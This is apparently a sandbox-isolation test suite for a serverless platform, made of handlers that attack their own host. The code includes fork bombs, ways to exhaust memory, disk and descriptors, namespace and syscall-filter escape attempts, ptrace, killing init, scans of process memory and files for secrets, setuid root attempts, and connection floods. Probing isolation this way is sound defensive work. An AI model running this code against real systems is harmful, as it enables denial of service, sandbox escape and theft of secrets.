"""Attacks on the platform a function runs on, one handler each. They tell what became of it; the tests judge."""
import concurrent.futures
import ctypes
import errno
import fcntl
import mmap
import os
import platform
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def tried(act, *arguments):
    """What came of it: "done", or the name of the error."""
    try:
        act(*arguments)
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)
    except Exception as error:
        return type(error).__name__
    return "done"


def put(path, text):
    """Writes at once, so that the error is the writer's and not the garbage collector's."""
    descriptor = os.open(path, os.O_WRONLY)
    try:
        os.write(descriptor, text)
    finally:
        os.close(descriptor)


def called(number, *arguments):
    """What came of a system call: "done", or the name of the error."""
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(argument) for argument in arguments))
    return errno.errorcode[ctypes.get_errno()] if result == -1 else "done"


# --- endings ----------------------------------------------------------------------------------------------------------

def echo(event, context):
    return event


def exits(event, context):
    sys.exit(event["code"])


def exits_at_once(event, context):
    print("last words", flush=True)
    os._exit(event["code"])


def exits_in_a_thread(event, context):
    threading.Thread(target=os._exit, args=(4,)).start()
    time.sleep(600)


def becomes_another_program(event, context):
    os.execv(event["program"][0], event["program"])


def kills_itself(event, context):
    os.kill(os.getpid(), event["signal"])
    time.sleep(600)


def segfaults(event, context):
    ctypes.string_at(0)


def never_returns(event, context):
    signal.pthread_sigmask(signal.SIG_SETMASK, range(1, signal.NSIG))
    print("before the end of days", flush=True)
    while True:
        if event.get("sleeps"):
            time.sleep(600)


def recurses(event, context):
    if event.get("without_limit"):
        sys.setrecursionlimit(2 ** 30)
    return recurses(event, context)


def recurses_natively(event, context):
    sys.setrecursionlimit(2 ** 30)
    value = []
    for _ in range(10 ** 6):
        value = [value]
    return repr(value)


class Unruly(Exception):
    def __str__(self):
        raise RuntimeError("no text")


def raises(event, context):
    raise {"base": KeyboardInterrupt, "exit": SystemExit, "generator": GeneratorExit, "unruly": Unruly}[event["what"]]()


def raises_a_huge_error(event, context):
    raise ValueError("x" * (32 << 20))


# --- results ----------------------------------------------------------------------------------------------------------

class NotJson:
    pass


def circle():
    value = []
    value.append(value)
    return value


def nest():
    value = []
    for _ in range(100_000):
        value = [value]
    return value


ODD_RESULTS = {
    "set": lambda: {1}, "object": NotJson, "bytes": lambda: b"x", "nan": lambda: float("nan"),
    "infinity": lambda: {"a": [float("inf")]}, "circle": circle, "tuple key": lambda: {(1, 2): 3}, "deep": nest,
    "surrogate": lambda: "\ud800", "complex": lambda: 1j, "generator": lambda: (x for x in ()),
}


def returns_oddly(event, context):
    if event["what"] == "nothing odd":
        return "plain"
    return ODD_RESULTS[event["what"]]()


def returns_much(event, context):
    return "x" * event["bytes"]


# --- what a runtime says, said by the function -----------------------------------------------------------------------

RETURNED, RAISED, TOO_LARGE, LOADED = 6, 7, 8, 3


def sequence():
    """The number of the question that is being answered, out of the runtime's own frame."""
    frame = sys._getframe(1)
    while frame is not None:
        if isinstance(frame.f_locals.get("sequence"), int):
            return frame.f_locals["sequence"]
        frame = frame.f_back
    return 2


def frame(kind, number, body):
    return struct.pack("<III", len(body), kind, number) + body


LIES = {
    "a length without end": lambda: struct.pack("<III", 0xFFFFFFFF, RETURNED, sequence()),
    "a length just too large": lambda: struct.pack("<III", 7 << 20, RETURNED, sequence()),
    "an unknown kind": lambda: frame(99, sequence(), b"1"),
    "kind zero": lambda: frame(0, sequence(), b"1"),
    "a kind out of place": lambda: frame(LOADED, sequence(), b"1"),
    "another sequence": lambda: frame(RETURNED, sequence() + 7, b"1"),
    "noise": lambda: os.urandom(4096),
    "a result that is not JSON": lambda: frame(RETURNED, sequence(), b"{no"),
    "a result that is not text": lambda: frame(RETURNED, sequence(), b"\"\xff\xfe\""),
    "a fault that is none": lambda: frame(RAISED, sequence(), b"[]"),
    "a fault of half a character": lambda: frame(RAISED, sequence(), b'{"message": "half \\ud83d of \xff"}'),
    "a size that is none": lambda: frame(TOO_LARGE, sequence(), b"\xff" * 64),
}


def lies(event, context):
    os.write(4, LIES[event["lie"]]())
    time.sleep(600)


def answers_in_part(event, context):
    os.write(4, struct.pack("<III", 1 << 20, RETURNED, sequence()))
    while True:
        os.write(4, b"1")
        time.sleep(0.001)


def answers_twice(event, context):
    if event.get("lie"):
        os.write(4, frame(RETURNED, sequence(), b'"forged"') * event["lie"])
    return event["n"]


def leaves_a_forger(event, context):
    """Leaves a child that answers the next call before this one does."""
    if event["n"] == 0 and os.fork() == 0:
        while not os.path.exists("/tmp/go"):
            time.sleep(0.001)
        for number in range(1, 10):
            os.write(4, frame(RETURNED, number, b'"forged"'))
        open("/tmp/done", "w").close()
        os._exit(0)
    if event["n"] == 1:
        open("/tmp/go", "w").close()
        while not os.path.exists("/tmp/done"):
            time.sleep(0.001)
    return event["n"]


def leaves_a_thief(event, context):
    """Leaves a child that takes the next event away."""
    if event["n"] == 0 and os.fork() == 0:
        os.read(3, 1 << 20)
        time.sleep(600)
    return event["n"]


def forks_and_both_return(event, context):
    os.fork()
    return event["n"]


def closes(event, context):
    for descriptor in event["descriptors"]:
        os.close(descriptor)
    return event["n"]


def reads_its_requests(event, context):
    return len(os.read(3, 1))


# --- floods -----------------------------------------------------------------------------------------------------------

FLOODS = {
    "lines": b"0123456789abcde\n" * 4096, "one line": b"x" * 65536, "line feeds": b"\n" * 65536,
    "binary": bytes(range(256)) * 256, "broken text": b"\xe4\xb8" * 32768,
    "control": b"\x1b[2J\x1b]0;title\x07\x00\r" * 4096,
}


def reads_and_leaves(event, context):
    """Reads a request in ways after which it is there still."""
    found = {"tee": "done" if libc.tee(3, os.pipe()[1], 65536, 0) >= 0 else errno.errorcode[ctypes.get_errno()]}
    for name, flags in [("write", os.O_WRONLY), ("both", os.O_RDWR), ("read", os.O_RDONLY | os.O_NONBLOCK)]:
        found[name] = tried(os.open, "/proc/self/fd/3", flags)
    found["own"] = tried(os.fchmod, 3, 0o666)
    return found


def floods(event, context):
    chunk = FLOODS[event["flood"]]
    left = event["bytes"]
    while left > 0:
        left -= os.write(event["descriptor"], chunk[:left])
    return event["bytes"]


def floods_for_ever(event, context):
    """From a child, during and after the call."""
    if event["n"] == 0 and os.fork() == 0:
        while True:
            os.write(1, b"y" * 4096)
    return event["n"]


# --- resources --------------------------------------------------------------------------------------------------------

def fork_bomb(event, context):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def shell_fork_bomb(event, context):
    subprocess.run(["/bin/sh", "-c", ":(){ :|:& }; :; sleep 600"])


def counts_processes(event, context):
    """As many children at a time as there may be; they end when their pipe does."""
    reader, writer = os.pipe()
    children = []
    try:
        while len(children) < 10_000:
            child = os.fork()
            if child == 0:
                os.close(writer)
                os.read(reader, 1)
                os._exit(0)
            children.append(child)
        stopped = "nothing"
    except OSError as error:
        stopped = errno.errorcode[error.errno]
    os.close(writer)
    for child in children:
        os.waitpid(child, 0)
    return {"processes": len(children), "stopped by": stopped}


def counts_threads(event, context):
    threading.stack_size(32768)
    done = threading.Event()
    threads = []
    try:
        while len(threads) < 10_000:
            thread = threading.Thread(target=done.wait)
            thread.start()
            threads.append(thread)
        stopped = "nothing"
    except RuntimeError:
        stopped = "EAGAIN"
    done.set()
    for thread in threads:
        thread.join()
    return {"threads": len(threads), "stopped by": stopped}


def _take_memory():
    kept = []
    while True:
        kept.append(b"x" * (1 << 20))


def _take_memory_in_a_child():
    print("child", subprocess.run(["/usr/bin/python3", "-c", "k = []\nwhile True: k.append(b'x' * (1 << 20))"]))


def _take_memory_as_files():
    with open("/tmp/hog", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))


def _take_memory_as_descriptor():
    hog = os.memfd_create("hog")
    while True:
        os.write(hog, b"x" * (1 << 20))


def _take_shared_memory():
    hog = mmap.mmap(-1, 2 << 30)
    for place in range(0, 2 << 30, 4096):
        hog[place] = 1


def _take_segments():
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(64):
        segment = libc.shmget(0, ctypes.c_size_t(32 << 20), 0o1600)
        ctypes.memset(libc.shmat(segment, None, 0), 1, 32 << 20)


MEMORY = {
    "memory": _take_memory, "a child's memory": _take_memory_in_a_child, "files in /tmp": _take_memory_as_files,
    "a memory file": _take_memory_as_descriptor, "shared memory": _take_shared_memory, "segments": _take_segments,
}


def takes_memory(event, context):
    MEMORY[event["as"]]()


def fills_the_disk(event, context):
    """Writes into /tmp until it is told to stop."""
    chunk, written = b"\0" * (1 << 20), 0
    with open("/tmp/fill", "wb", buffering=0) as file:
        try:
            while written < 4 << 30:
                written += file.write(chunk)
            stopped = "nothing"
        except OSError as error:
            stopped = errno.errorcode[error.errno]
    os.unlink("/tmp/fill")
    return {"bytes": written, "stopped by": stopped}


def fills_the_inodes(event, context):
    made = 0
    try:
        while made < 1 << 20:
            os.close(os.open(f"/tmp/{made}", os.O_CREAT | os.O_WRONLY))
            made += 1
        stopped = "nothing"
    except OSError as error:
        stopped = errno.errorcode[error.errno]
    return {"files": made, "stopped by": stopped}


def hogs_descriptors(event, context):
    """Takes every descriptor there is and keeps them all."""
    global hogged
    resource_error = tried(resource.setrlimit, resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
    hogged = []
    makers = {"file": lambda: os.open("/dev/null", os.O_RDONLY), "socket": lambda: socket.socket().detach(),
              "pipe": lambda: os.pipe()[0], "epoll": lambda: __import__("select").epoll()}
    stopped = {}
    for what, make in makers.items():
        try:
            while len(hogged) < 100_000:
                hogged.append(make())
            stopped[what] = "nothing"
        except OSError as error:
            stopped[what] = errno.errorcode[error.errno]
    return {"descriptors": len(hogged), "stopped by": stopped, "more": resource_error}


def computes(event, context):
    """Every processor there is, for longer than there is time."""
    for _ in range(os.cpu_count() * 4):
        if os.fork() == 0:
            while True:
                pass
    while True:
        pass


def raises_its_limits(event, context):
    limits = {name: getattr(resource, name) for name in ("RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_CORE")}
    return {
        **{name: tried(resource.setrlimit, limit, (1 << 22, 1 << 22)) for name, limit in limits.items()},
        "nice": tried(os.setpriority, os.PRIO_PROCESS, 0, -10),
        "realtime": tried(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(50)),
        "unkillable": tried(put, "/proc/self/oom_score_adj", b"-1000"),
    }


# --- the kernel -------------------------------------------------------------------------------------------------------

# Name, number on x86_64, number on aarch64.
CALLS = """
mount 165 40|umount2 166 39|pivot_root 155 41|chroot 161 51|open_tree 428 428|move_mount 429 429|fsopen 430 430
fsconfig 431 431|fsmount 432 432|fspick 433 433|mount_setattr 442 442|swapon 167 224|swapoff 168 225|quotactl 179 60
unshare 272 97|setns 308 268|ptrace 101 117|process_vm_readv 310 270|process_vm_writev 311 271|kcmp 312 272
pidfd_getfd 438 438|process_madvise 440 440|move_pages 279 239|init_module 175 105|finit_module 313 273
delete_module 176 106|kexec_load 246 104|kexec_file_load 320 294|bpf 321 280|perf_event_open 298 241|reboot 169 142
acct 163 89|syslog 103 116|vhangup 153 58|userfaultfd 323 282|fanotify_init 300 262|memfd_secret 447 447
add_key 248 217|request_key 249 218|keyctl 250 219|open_by_handle_at 304 265|name_to_handle_at 303 264
settimeofday 164 170|clock_settime 227 112|clock_adjtime 305 266|adjtimex 159 171|sethostname 170 161
setdomainname 171 162|io_uring_setup 425 425|io_uring_enter 426 426|io_uring_register 427 427|clone3 435 435
quotactl_fd 443 443|io_setup 206 0|io_destroy 207 1|io_submit 209 2|io_cancel 210 3|io_getevents 208 4
io_pgetevents 333 292|inotify_init1 294 26|inotify_add_watch 254 27
"""
X86_64 = platform.machine() == "x86_64"
NUMBERS = {}
for row in CALLS.replace("\n", "|").strip("|").split("|"):
    name, x86_64, aarch64 = row.split()
    NUMBERS[name] = int(x86_64 if X86_64 else aarch64)

NAMESPACES = {"mount": 0x00020000, "cgroup": 0x02000000, "uts": 0x04000000, "ipc": 0x08000000, "user": 0x10000000,
              "pid": 0x20000000, "net": 0x40000000}


def calls_the_kernel(event, context):
    return {name: called(number, 0, 0, 0, 0, 0, 0) for name, number in NUMBERS.items()}


def leaves_its_namespaces(event, context):
    came_of_it = {}
    clone = 56 if X86_64 else 220
    for name, flag in NAMESPACES.items():
        came_of_it[f"unshare {name}"] = called(NUMBERS["unshare"], flag)
        result = libc.syscall(ctypes.c_long(clone), ctypes.c_long(flag | signal.SIGCHLD), *[ctypes.c_long(0)] * 4)
        if result == 0:
            os._exit(0)
        came_of_it[f"clone {name}"] = errno.errorcode[ctypes.get_errno()] if result == -1 else "done"
    for name in sorted(os.listdir("/proc/self/ns")):
        def join(name=name):
            namespace = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
            if libc.setns(namespace, 0):
                raise OSError(ctypes.get_errno(), name)
        came_of_it[f"setns {name}"] = tried(join)
    arguments = (ctypes.c_uint64 * 11)(NAMESPACES["user"], 0, 0, 0, signal.SIGCHLD)
    result = libc.syscall(ctypes.c_long(NUMBERS["clone3"]), arguments, ctypes.c_long(88))
    if result == 0:
        os._exit(0)
    came_of_it["clone3"] = errno.errorcode[ctypes.get_errno()] if result == -1 else "done"
    came_of_it["uid_map"] = tried(put, "/proc/self/uid_map", b"0 0 1")
    return came_of_it


def speaks_to_another_kernel(event, context):
    """System calls numbered as another architecture's, which a filter by number would let through."""
    if not X86_64:
        return {}
    x32 = {name: called(0x40000000 | NUMBERS[name], 0, 0, 0, 0, 0, 0) for name in ("mount", "unshare", "ptrace", "bpf")}
    child = os.fork()
    if child == 0:
        # mov eax, 21 (mount of i386); int 0x80; ret
        code = b"\xb8\x15\x00\x00\x00\xcd\x80\xc3"
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        os._exit(0)
    return {**x32, "int 0x80": "done" if os.waitpid(child, 0)[1] == 0 else "killed"}


def opens_sockets(event, context):
    def family(number, kind=socket.SOCK_RAW, protocol=0):
        return tried(lambda: socket.socket(number, kind, protocol).close())
    return {
        "raw": family(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
        "raw icmp": family(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "raw 6": family(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
        "packet": family(socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
        "packet datagram": family(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300),
        **{f"family {number}": family(number, socket.SOCK_SEQPACKET if number == 40 else socket.SOCK_RAW)
           for number in (15, 17, 21, 29, 30, 31, 38, 40, 44)},
        **{f"netlink {number}": family(socket.AF_NETLINK, socket.SOCK_RAW, number) for number in (4, 9, 12, 15, 16)},
        **{f"pair {number}": tried(socket.socketpair, number, kind)
           for number in (2, 10, 16, 17, 21, 30, 38, 40) for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET)},
        "sctp": family(socket.AF_INET, socket.SOCK_STREAM, 132), "dccp": family(socket.AF_INET, 6, 33),
        "udp-lite": family(socket.AF_INET, socket.SOCK_DGRAM, 136),
        "mptcp": family(socket.AF_INET, socket.SOCK_STREAM, 262),
    }


def watches_folders(event, context):
    """What its host does: who reads which of its folders."""
    folder = os.open("/usr/bin", os.O_RDONLY)
    return {"F_NOTIFY": tried(fcntl.fcntl, folder, fcntl.F_NOTIFY, fcntl.DN_ACCESS)}


def writes_everything_back(event, context):
    descriptor = os.open("/var/user", os.O_RDONLY)
    return {"sync": tried(os.sync), "syncfs": called(306 if X86_64 else 267, descriptor)}


def changes_its_network(event, context):
    commands = ["link set lo down", "link add dummy1 type dummy", "addr add 10.9.9.9/32 dev lo",
                "route add 10.0.0.0/8 dev lo", "netns add escape"]
    return {command: subprocess.run(["ip", *command.split()], capture_output=True).returncode for command in commands}


def traces(event, context):
    child = os.fork()
    if child == 0:
        time.sleep(600)
    attach, seize, traceme = 16, 0x4206, 0
    came_of_it = {
        "traceme": called(NUMBERS["ptrace"], traceme, 0, 0, 0),
        "attach": called(NUMBERS["ptrace"], attach, child, 0, 0),
        "seize": called(NUMBERS["ptrace"], seize, child, 0, 0),
        "attach init": called(NUMBERS["ptrace"], attach, 1, 0, 0),
    }
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    return came_of_it


def signals_others(event, context):
    return {
        "everybody": tried(os.kill, -1, signal.SIGTERM),
        "init": tried(os.kill, 1, signal.SIGKILL),
        "init stop": tried(os.kill, 1, signal.SIGSTOP),
        "group of init": tried(os.killpg, 1, signal.SIGKILL),
        "parent": tried(os.kill, os.getppid(), signal.SIGKILL),
        **{f"host {pid}": tried(os.kill, pid, signal.SIGKILL) for pid in event["pids"]},
    }


# --- what there is to see ---------------------------------------------------------------------------------------------

def tells_who_it_is(event, context):
    fields = dict(line.split(":", 1) for line in open("/proc/self/status"))
    wanted = ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    return {
        **{name: fields[name].split() for name in wanted},
        "descriptors": {entry: os.readlink(f"/proc/self/fd/{entry}").split(":")[0]
                        for entry in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{entry}")},
        "hostname": os.uname().nodename,
    }


def looks_at_processes(event, context):
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        seen = {}
        for what in ("cmdline", "environ", "cwd", "root", "exe", "maps"):
            path = f"/proc/{pid}/{what}"
            try:
                seen[what] = os.readlink(path) if what in ("cwd", "root", "exe") else open(path, "rb").read().decode("utf-8", "replace")
            except OSError as error:
                seen[what] = errno.errorcode[error.errno]
        found[pid] = seen
    return found


def looks_at_the_kernel(event, context):
    """The beginning of files that tell about the machine, and whatever of /proc can be opened for writing."""
    read = {}
    for path in event["read"]:
        try:
            with open(path, "rb") as file:
                read[path] = file.read(64).decode("latin-1")
        except OSError as error:
            read[path] = errno.errorcode[error.errno]
    null = os.stat("/dev/null").st_rdev
    writable = []
    for folder, folders, files in os.walk("/proc"):
        if folder == "/proc":
            folders[:] = [name for name in folders if not name.isdigit() and name not in ("self", "thread-self")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            # The last process id of its own namespace: the kernel asks again at the write.
            own = path == "/proc/sys/kernel/ns_last_pid" and tried(os.write, descriptor, b"1") == "EPERM"
            if os.fstat(descriptor).st_rdev != null and not own:
                writable.append(path)
            os.close(descriptor)
    return {"read": read, "writable": writable, "sys": os.listdir("/sys")}


def looks_at_mounts(event, context):
    """Mounts with their options, by target."""
    mounts = {}
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        mounts[fields[4]] = {"options": fields[5].split(","), "kind": fields[fields.index("-") + 1]}
    return mounts


def looks_at_files(event, context):
    """Host paths that can be seen, what stands at the root, and every file outside the system's folders that can be
    read and holds the secret, which is told backwards so that it is not found here."""
    secret = event["secret"][::-1].encode()
    holds_it = []
    for top in ("/var", "/tmp", "/home", "/opt", "/etc", "/run", "/root", "/dev/shm", "/srv", "/mnt", "/media", "/boot"):
        for folder, folders, files in os.walk(top):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISREG(os.stat(path).st_mode) and secret in open(path, "rb").read():
                        holds_it.append(path)
                except OSError:
                    pass
    return {
        "root": sorted(os.listdir("/")),
        "dev": sorted(os.listdir("/dev")),
        "passwd": [line.split(":")[0] for line in open("/etc/passwd")],
        "seen": [path for path in event["paths"] if os.path.lexists(path)],
        "through /proc": [path for path in event["paths"] for root in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd/..")
                          if os.path.lexists(root + path)],
        "holds it": holds_it,
    }


def looks_into_memory(event, context):
    """Processes besides this one whose memory holds the secret."""
    secret = event["secret"][::-1].encode()
    holds_it = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                for line in maps:
                    start, end = (int(word, 16) for word in line.split()[0].split("-"))
                    try:
                        memory.seek(start)
                        if secret in (memory.read(end - start) or b""):
                            holds_it.append(line)
                    except (OSError, OverflowError, ValueError):
                        pass
        except OSError:
            pass
    return holds_it


SECRET = None


def keeps_a_secret(event, context):
    """Keeps it in memory, in /tmp, in shared memory, in a segment and at an abstract address."""
    global SECRET, segment, door
    if "secret" in event:
        SECRET = event["secret"]
        for folder in ("/tmp", "/dev/shm"):
            with open(f"{folder}/secret", "w") as file:
                file.write(SECRET)
        segment = libc.shmget(0x5EC, ctypes.c_size_t(4096), 0o1666)
        door = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        door.bind("\0secret")
        door.listen()
    return SECRET


def looks_for_leftovers(event, context):
    def knock():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as door:
            door.connect("\0secret")
    return {
        "files": [name for folder in ("/tmp", "/dev/shm") for name in os.listdir(folder)],
        "segment": "done" if libc.shmget(0x5EC, ctypes.c_size_t(4096), 0o666) != -1 else "gone",
        "abstract address": tried(knock),
    }


# --- writing ----------------------------------------------------------------------------------------------------------

def writes_everywhere(event, context):
    """Folders in which a file can be made, and existing files that can be changed."""
    made, changed = [], []
    for folder, folders, _ in os.walk("/"):
        if folder in ("/proc", "/tmp", "/sys") or folder.count("/") > 4:
            folders.clear()
            continue
        path = os.path.join(folder, "skiff-was-here")
        if tried(lambda: os.close(os.open(path, os.O_CREAT | os.O_WRONLY))) == "done":
            made.append(folder)
        if tried(os.mkdir, path + ".d") == "done":
            made.append(folder)
    for path in ("/var/user/attack.py", "/var/user", "/etc/passwd", "/etc/hosts", "/etc/ld.so.cache", "/usr/bin/env",
                 "/var/runtime/libskiffcell.so", "/dev/null", "/dev/zero", "/", "/opt", "/home/qcloud"):
        acts = {
            "chmod": lambda: os.chmod(path, 0o777),
            "chown": lambda: os.chown(path, os.getuid(), os.getgid()),
            "times": lambda: os.utime(path, (0, 0)),
            "rename": lambda: os.rename(path, path + ".old"),
            "remove": lambda: os.rmdir(path) if os.path.isdir(path) else os.unlink(path),
            "link": lambda: os.link(path, "/tmp/link"),
            "attribute": lambda: os.setxattr(path, "user.skiff", b"1"),
        }
        if not path.startswith("/dev/") and not os.path.isdir(path):
            acts["open"] = lambda: os.close(os.open(path, os.O_WRONLY))
            acts["truncate"] = lambda: os.truncate(path, 0)
        changed += [f"{what} {path}" for what, act in acts.items() if tried(act) == "done"]
    return {"made": made, "changed": changed}


def makes_devices(event, context):
    return {
        "block": tried(os.mknod, "/tmp/disk", 0o666 | stat.S_IFBLK, os.makedev(254, 0)),
        "memory": tried(os.mknod, "/tmp/mem", 0o666 | stat.S_IFCHR, os.makedev(1, 1)),
        "kmsg": tried(os.mknod, "/tmp/kmsg", 0o666 | stat.S_IFCHR, os.makedev(1, 11)),
    }


def becomes_root(event, context):
    """By programs with the set-uid bit, and by a copy of its own."""
    programs = []
    for folder in ("/usr/bin", "/usr/sbin", "/bin", "/usr/lib"):
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            try:
                if os.stat(path).st_mode & stat.S_ISUID:
                    programs.append(path)
            except OSError:
                pass
    own = os.path.join(tempfile.mkdtemp(), "env")
    with open("/usr/bin/env", "rb") as source, open(own, "wb") as copy:
        copy.write(source.read())
    os.chmod(own, 0o6755)
    child = subprocess.run([own, "/usr/bin/id", "-u"], capture_output=True, text=True)
    su = subprocess.run(["su", "-c", "id -u", "root"], stdin=subprocess.DEVNULL, capture_output=True, text=True)
    return {
        "programs": len(programs), "own copy": child.stdout.strip(), "su": su.stdout.strip(),
        "setuid": tried(os.setuid, 0), "setgid": tried(os.setgid, 0), "setgroups": tried(os.setgroups, [0]),
        "neighbour": tried(os.setuid, os.getuid() + 1),
    }


def follows_links(event, context):
    """Symbolic links of its own to files of the host."""
    read = {}
    for number, path in enumerate(event["paths"]):
        os.symlink(path, f"/tmp/link{number}")
        read[path] = tried(lambda: open(f"/tmp/link{number}").read())
    return read


# --- the network ------------------------------------------------------------------------------------------------------

def connects(event, context):
    """What comes of connecting to each address; a datagram is sent there, too."""
    def knock(target):
        host, port = target
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as datagram:
            tried(datagram.sendto, b"knock", (host, port))
        timeout = event.get("timeout", 0.5)
        return f"{host}:{port}", tried(lambda: socket.create_connection((host, port), timeout).close())
    with concurrent.futures.ThreadPoolExecutor(32) as knocking:
        return dict(knocking.map(knock, event["targets"]))


def tells_its_network(event, context):
    """Its addresses and its gateway."""
    shown = subprocess.run(["ip", "-oneline", "-4", "addr"], capture_output=True, text=True).stdout
    routes = subprocess.run(["ip", "-4", "route"], capture_output=True, text=True).stdout
    return {
        "addresses": [line.split()[3].split("/")[0] for line in shown.splitlines() if " lo " not in line],
        "gateway": [line.split()[2] for line in routes.splitlines() if line.startswith("default via")],
    }


def listens(event, context):
    global listener
    listener = socket.create_server(("0.0.0.0", 8000))
    return tells_its_network(event, context)["addresses"]


def fetches(event, context):
    import http.client
    connection = http.client.HTTPConnection(event["host"], event["port"], timeout=5)
    connection.request("GET", event["path"])
    return connection.getresponse().status


def besieges(event, context):
    """Takes as many connections to one of Skiff's own endpoints as there are descriptors, says something on each and
    never goes on."""
    global siege
    siege = []
    try:
        while True:
            connection = socket.create_connection((event["host"], event["port"]), timeout=5)
            siege.append(connection)
            connection.sendall(event["says"].encode())
    except OSError as error:
        return {"connections": len(siege), "stopped by": errno.errorcode.get(error.errno, type(error).__name__)}


# --- afterwards -------------------------------------------------------------------------------------------------------

def leaves_a_process(event, context):
    """Leaves a program behind that is told by its argument."""
    subprocess.Popen(["sleep", event["mark"]], start_new_session=True)
    return "left"


def leaves_a_daemon(event, context):
    """The same, disowned twice, deaf to every signal."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.pthread_sigmask(signal.SIG_SETMASK, range(1, signal.NSIG))
            os.closerange(0, 1024)
            os.execv("/bin/sleep", ["sleep", event["mark"]])
        os._exit(0)
    os.wait()
    return "left"


def leaves_a_computation(event, context):
    """Leaves a child that computes; a later call asks whether it still runs."""
    global computing
    if "mark" in event:
        computing = subprocess.Popen(["/bin/sh", "-c", "while :; do :; done", event["mark"]])
        return "left"
    return computing.poll()


def eats_while_idle(event, context):
    """Takes memory after its answer, until its instance ends of it."""
    def eat():
        time.sleep(0.05)
        _take_memory()
    if event["n"] == 0:
        subprocess.Popen(["sleep", event["mark"]])
        threading.Thread(target=eat, daemon=True).start()
    return event["n"]
